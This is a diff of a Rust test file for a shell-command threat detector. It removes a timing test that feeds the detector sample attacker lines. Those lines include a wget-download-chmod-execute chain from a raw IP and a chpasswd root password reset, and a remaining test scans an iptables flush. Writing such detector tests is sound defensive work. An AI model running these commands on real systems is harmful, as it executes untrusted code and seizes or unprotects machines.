@@ -619,28 +619,6 @@ fn hostile_input_is_bounded_and_never_panics() {
 }
 
 #[test]
-fn a_typical_line_is_cheap() {
-    let tw = Tripwires::builtin();
-    let mut s = SessionRisk::new();
-    let lines = [
-        "cd /tmp; wget http://1.2.3.4/x.sh; chmod +x x.sh; ./x.sh",
-        "uname -a",
-        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'",
-        "echo \"root:x\" | chpasswd",
-    ];
-    let started = Instant::now();
-    for k in 0..2000 {
-        s.observe(tw, k * 10 * SECOND, lines[k as usize % lines.len()]);
-    }
-    // debug build on a shared machine: generous (a release build does a line in microseconds)
-    assert!(
-        started.elapsed() < Duration::from_secs(10),
-        "{:?}",
-        started.elapsed()
-    );
-}
-
-#[test]
 fn hits_serialize_with_their_family_and_severity() {
     let h = &Tripwires::builtin().scan("iptables -F")[0];
     let v = serde_json::to_value(h).expect("serializes");
